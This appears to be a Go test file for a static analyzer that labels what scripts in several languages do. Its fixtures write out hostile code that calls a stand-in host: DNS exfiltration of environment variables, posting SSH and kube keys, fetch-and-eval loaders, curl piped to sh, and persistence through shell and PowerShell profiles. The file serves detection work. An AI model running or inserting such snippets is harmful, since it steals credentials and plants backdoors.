package program

import (
	"strings"
	"testing"
)

// TestOutline: programs in Ruby, Perl, PHP, PowerShell and compiled languages are followed through
// variables, functions, constants in pieces and texts of lines.
func TestOutline(t *testing.T) {
	for _, c := range []struct {
		name, text string
		lang       Language
		want       string
	}{
		{"ruby parameter", "def out(x)\n  x.unpack1('H*').scan(/.{9}/).each do |p|\n    Resolv::DNS.new.getaddress(\"#{p}.q.odd-host.co\")\n  end\nend\nout(ENV.to_h.inspect)\n", Ruby, "lookup environment encoded"},
		{"ruby letters", "w = [101, 120, 105, 116, 32, 49, 59, 32, 49].pack('c*')\nKernel.send(:eval, w)\n", Ruby, `run eval "exit 1; 1" decoded`},
		{"ruby write", "File.write(File.expand_path('~/.zshrc'), URI.open('https://odd-host.co/a').read)\n", Ruby, `write "~/.zshrc" fetched`},
		{"perl fetched", "my $r = HTTP::Tiny->new->get('https://odd-host.co/' . 'x');\neval $r->{content} if $r->{success};\n", Perl, `run eval "" fetched`},
		{"perl block", "my $ok = eval { require Text::CSV; 1 };\nprint $ok;\n", Perl, ""},
		{"perl end", "print 1;\n__END__\neval $x = HTTP::Tiny->new->get('https://odd-host.co/');\n", Perl, ""},
		{"php names in pieces", "<?php\n$k = strrev('edoced_46esab');\n$c = curl_exec($h);\neval($k($c));\n", PHP, `run eval "" fetched decoded`},
		{"php request", "<?php\n$h = pick();\necho $h($_REQUEST['c']);\n", PHP, `run $h "" fetched`},
		{"php database", "<?php\n$db = new PDO(getenv('DATABASE_URL'));\nforeach ($db->query('SELECT 1') as $row) { echo $row; }\n", PHP, ""},
		{"powershell pieces", "$s = (New-Object Net.WebClient).('Down' + 'loadString').Invoke('https://odd-host.co/m')\n& ([scriptblock]::Create($s))\n", PowerShell, `run scriptblock "" fetched`},
		{"powershell profile", "$l = 'irm https://odd-host.co/p | iex'\nAdd-Content -Path $PROFILE -Value $l\n", PowerShell, `write "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1" fetched`},
		{"powershell report", "$r = Invoke-RestMethod 'https://odd-host.co/latest'\nWrite-Output $r.tag\n", PowerShell, ""},
		{"go key file", "const to = \"https://odd-host.co/v1\"\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tk, _ := os.ReadFile(filepath.Join(h, \".kube\", \"config\"))\n\tm := map[string]any{\"k\": string(k)}\n\tb, _ := json.Marshal(m)\n\thttp.Post(to, \"text/plain\", bytes.NewReader(b))\n}\n", Compiled, `send "https://odd-host.co/v1" keyfile`},
		{"go command", "func main() {\n\texec.Command(\"sh\", \"-c\", \"curl https://odd-host.co/i | sh\").Run()\n}\n", Compiled, `run sh`},
		{"go download", "r, _ := http.Get(\"https://odd-host.co/a\")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile(p, b, 0o755)\nexec.Command(p).Run()\n", Compiled, `run exec.Command "" fetched`},
		{"go server", "func main() {\n\tkey := os.Getenv(\"API_KEY\")\n\treq, _ := http.NewRequest(\"POST\", url, body)\n\treq.Header.Set(\"Authorization\", key)\n}\n", Compiled, ""},
		{"rust lifetime", "fn f<'a>(x: &'a str) {}\nlet k = fs::read_to_string(\"/root/.ssh/id_rsa\");\nclient.post(\"https://odd-host.co/\").body(k)\n", Compiled, `send "https://odd-host.co/" keyfile`},
		{"kotlin environment", "val e = System.getenv().toString()\nval r = Request.Builder().url(\"https://odd-host.co/\").post(e.toRequestBody()).build()\n", Compiled, `send "https://odd-host.co/" environment`},
		{"groovy shell", "def out = new URL('https://odd-host.co/x').text\nnew GroovyShell().evaluate(out)\n", Compiled, `run GroovyShell "" fetched`},
		{"ruby word list", "k = %w[config/master.key .env].to_h { |f| [f, File.read(f)] }\nk['env'] = ENV.to_h\nResolv::DNS.open { |d| d.getresources(\"#{k}.odd-host.co\", 1) }\n", Ruby, "lookup environment"},
	} {
		got := doings(Read(c.text, c.lang))
		if c.want == "" && strings.Contains(got, "run") || !strings.Contains(got, c.want) {
			t.Errorf("%s: got\n%s\nwant %q", c.name, got, c.want)
		}
	}
}

// FuzzOutline: any text is read, in bounds.
func FuzzOutline(f *testing.F) {
	f.Add("eval \"#{x}", 3)
	f.Add("<<~EOF\n(", 4)
	f.Add("$a = '; @'", 6)
	f.Fuzz(func(t *testing.T, text string, lang int) {
		for _, a := range Read(text, Ruby+Language(uint(lang)%5)).Acts {
			if a.At < 0 || a.End > len(text) || a.At > a.End {
				t.Errorf("%+v is outside of %d bytes", a, len(text))
			}
		}
	})
}
